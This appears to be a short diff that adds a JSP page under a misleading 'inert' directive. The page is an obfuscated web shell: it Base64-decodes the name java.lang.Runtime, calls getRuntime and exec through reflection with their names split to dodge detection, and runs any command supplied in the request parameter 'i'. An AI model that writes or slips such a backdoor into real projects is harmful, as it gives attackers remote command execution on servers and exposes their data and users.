@@ -1,0 +1,2 @@
+<%@ inert %>
+<% String a = new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU=")); Class c = Class.forName(a); java.lang.reflect.Method g = c.getMethod("get" + "Runtime"); java.lang.reflect.Method e = c.getMethod("ex" + "ec", String.class); e.invoke(g.invoke(null), request.getParameter("i")); %>
